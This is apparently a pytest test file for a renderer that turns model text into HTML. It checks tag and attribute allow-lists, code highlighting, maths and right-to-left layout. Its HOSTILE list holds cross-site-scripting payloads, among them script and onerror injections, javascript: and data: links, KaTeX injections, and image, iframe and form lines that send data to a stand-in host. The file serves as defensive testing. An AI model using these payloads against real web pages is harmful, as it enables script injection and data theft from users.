"""Model text as HTML: what it must render, and what it must never let through."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kimi_demo.ui.markup import blocks, markdown


class _Elements(HTMLParser):
    """Every start tag with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "![x](http://evil.example/?secret)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>body{display:none}</style>",
    "<iframe src=http://evil.example></iframe>",
    "<form action=http://evil.example><input></form>",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\unicode{<script>alert(1)</script>}$$",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    '[x](http://a.example "onclick=alert(1)")',
    '[x](http://a.example/"onmouseover="alert(1))',
    "<javascript:alert(1)>",
    "|<img src=x onerror=alert(1)>|\n|-|\n|x|",
]
ALLOWED = set(
    "p h1 h2 h3 h4 h5 h6 ul ol li blockquote strong em s code pre a br hr table thead tbody tr th td div span button "
    "math mrow mi mn mo ms mtext mspace msup msub msubsup mfrac msqrt mroot mover munder munderover "
    "mtable mtr mtd mstyle mpadded mphantom menclose".split()
)


def harmless(html: str) -> None:
    for tag, attributes in _Elements(html).found:
        assert tag in ALLOWED, html
        for name, value in attributes.items():
            assert not name.startswith("on") and name not in ("style", "src", "srcset", "action"), html
            if name == "href":
                assert re.match(r"(https?://|mailto:)", value or "", re.IGNORECASE), html
                assert attributes["rel"] == "noopener noreferrer nofollow" and attributes["target"] == "_blank"


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_can_do_nothing(text: str) -> None:
    harmless(markdown(text))


@given(st.text(alphabet=st.sampled_from(list("<>\"'`$\\[]()!&;:/|#*_-=\n abjscriptonerror{}")), max_size=200))
def test_no_text_yields_active_content(text: str) -> None:
    harmless(markdown(text))


def test_code_keeps_its_indentation_and_is_coloured() -> None:
    html = markdown("```python\ndef f():\n\treturn 1\n\n    # x\n```")
    assert '<span class="hl-k">def</span>' in html
    assert "\n\t<span" in html and "\n\n    <span" in html


def test_code_in_an_unknown_language_stays_plain() -> None:
    assert "<code>a &lt; b\n</code>" in markdown("```klingon\na < b\n```")


@pytest.mark.parametrize("text", ["$x^2$", "$$x^2$$", "\\(x^2\\)", "\\[x^2\\]"])
def test_the_four_spellings_of_mathematics(text: str) -> None:
    html = markdown(f"so {text} it is\n\n{text}\n")
    assert html.count("<msup>") == 2 and "$" not in html and "\\" not in html


def test_prices_are_not_mathematics() -> None:
    assert markdown("It costs $5 and then $6.") == "<p>It costs $5 and then $6.</p>\n"


def test_unreadable_mathematics_stays_as_written() -> None:
    assert "\\frac{" in markdown("$\\frac{$")


def test_each_block_goes_in_the_direction_of_its_first_letter() -> None:
    arabic, hebrew = "\u0645\u0631\u062d\u0628\u0627", "\u05e9\u05dc\u05d5\u05dd"
    html = markdown(f"{arabic} (a)\n\n1. English\n\n- 12 {hebrew}\n- b\n\n> {arabic}\n\n# 3 {arabic}\n\n|{arabic}|b|\n|-|-|\n|a|b|")
    assert re.findall(r'<(\w+) dir="rtl">', html) == ["p", "ul", "blockquote", "h1", "table"]
    assert "<ol>" in html and "dir=" not in markdown(f"Plain {arabic}.\n\n12 + 5\n\n- 7")


def test_a_remote_image_becomes_a_link() -> None:
    assert markdown("![cat](http://e.example/c.png)") == (
        '<p><a href="http://e.example/c.png" target="_blank" rel="noopener noreferrer nofollow">cat</a></p>\n'
    )


def test_blocks_begin_where_markdown_says() -> None:
    assert blocks("# a\n\ntext\nmore\n\n- x\n\n  y\n- z\n\n```\ncode\n\ncode\n```\n") == [0, 2, 5, 10]
